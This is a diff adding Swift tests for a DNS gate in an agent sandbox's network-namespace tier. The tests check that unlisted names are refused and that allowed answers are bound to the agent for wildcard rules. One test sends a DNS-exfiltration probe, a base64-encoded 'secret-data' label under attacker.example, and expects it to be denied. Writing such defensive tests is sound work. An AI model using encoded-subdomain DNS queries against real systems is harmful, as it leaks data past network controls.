@@ -1,0 +1,96 @@
+import Foundation
+import Glibc
+import Testing
+
+/// Threat model item 15, DNS as a channel: in the netns tier every query
+/// reaches riptides's proxy, which refuses names no host rule allows (they
+/// never leave the host) and binds the answers for allowed ones to the
+/// agent, so a wildcard host rule matches the address a name resolved to.
+@Suite("exec: DNS gate (netns tier)", .enabled(if: geteuid() == 0, "the fake nameserver binds port 53, which needs root"))
+struct DNSGateTests {
+    /// A nameserver on `address`:53 recording the names it is asked; and a
+    /// resolv.conf naming it, for riptides (`RIPTIDES_RESOLV_CONF`).
+    final class Nameserver {
+        let address: String
+        let log: String
+        let resolvConf: String
+        let process = Process()
+
+        init(address: String) throws {
+            self.address = address
+            let id = UUID().uuidString.prefix(8)
+            log = Harness.scratch.appendingPathComponent("dns-\(id).log").path
+            resolvConf = Harness.scratch.appendingPathComponent("resolv-\(id).conf").path
+            FileManager.default.createFile(atPath: log, contents: nil)
+            try "nameserver \(address)\n".write(toFile: resolvConf, atomically: true, encoding: .utf8)
+            process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+            process.arguments = ["python3", Harness.packageRoot.appendingPathComponent("Tests/Agents/fake_nameserver.py").path, address, log]
+            let out = Pipe()
+            process.standardOutput = out
+            try process.run()
+            _ = out.fileHandleForReading.availableDataBlocking()
+        }
+
+        var askedNames: [String] {
+            ((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").split(separator: "\n").map(String.init)
+        }
+
+        deinit {
+            kill(process.processIdentifier, SIGKILL)
+            process.waitUntilExit()
+        }
+    }
+
+    static func run(_ nameserver: Nameserver, profile: String, _ arguments: [String]) throws -> Harness.Result {
+        var environment = ProcessInfo.processInfo.environment
+        environment["RIPTIDES_RESOLV_CONF"] = nameserver.resolvConf
+        return try Harness.riptides(
+            ["exec", "--isolation", "netns", "--profile", profile, "--", "/usr/bin/env", "python3",
+             Harness.packageRoot.appendingPathComponent("Tests/Agents/dns_client.py").path, nameserver.address] + arguments,
+            environment: environment)
+    }
+
+    @Test("a query for a name no rule allows is REFUSED and never reaches the nameserver; an allowed one is answered")
+    func refusesUnlistedNames() throws {
+        let nameserver = try Nameserver(address: "127.0.0.77")
+        let profile = try Harness.profile("dns", """
+            identity: spiffe://test.example/agent/dns
+            rules:
+              - name: api
+                to: ["*.allowed.example"]
+                ports: [443]
+            """)
+        let result = try Self.run(nameserver, profile: profile, ["api.allowed.example", "c2VjcmV0LWRhdGE.attacker.example"])
+        #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1")
+        #expect(result.reports["c2VjcmV0LWRhdGE.attacker.example"] == "rcode5 answers=0")
+        #expect(nameserver.askedNames == ["api.allowed.example"])
+        let dns = result.audit.filter { $0["event"] as? String == "dns" }
+        #expect(dns.map { $0["host"] as? String } == ["api.allowed.example", "c2vjcmv0lwrhdge.attacker.example"])
+        #expect(dns.map { $0["decision"] as? String } == ["allow", "deny"])
+    }
+
+    @Test("the answer binds the address to the name for this agent: a wildcard rule then allows the connect")
+    func bindsAnswers() throws {
+        let nameserver = try Nameserver(address: "127.0.0.78")
+        let listener = try Listener(.tcp)
+        let profile = try Harness.profile("dns-bind", """
+            identity: spiffe://test.example/agent/dns
+            rules:
+              - name: api
+                to: ["*.allowed.example"]
+                ports: [\(listener.port)]
+            """)
+        let bound = try Self.run(nameserver, profile: profile, ["api.allowed.example", "--connect", "\(listener.port)"])
+        #expect(bound.reports["connect"] == "ok", "\(bound.stdout)")
+        #expect(listener.messages() == ["hello"])
+        let connect = try #require(bound.decisions.first { $0["event"] as? String == "connect" })
+        #expect(connect["host"] as? String == "api.allowed.example")
+        #expect(connect["rule"] as? String == "api")
+
+        // In a session without that lookup, 127.0.0.1 is no allowed name's address: denied.
+        let unbound = try Harness.probe(profile: profile, ["tcp", "127.0.0.1", "\(listener.port)", "unbound"],
+                                        extra: ["--isolation", "netns"])
+        #expect(unbound.reports["connect"] == "EPERM")
+        #expect(listener.messages() == ["hello"])
+    }
+}
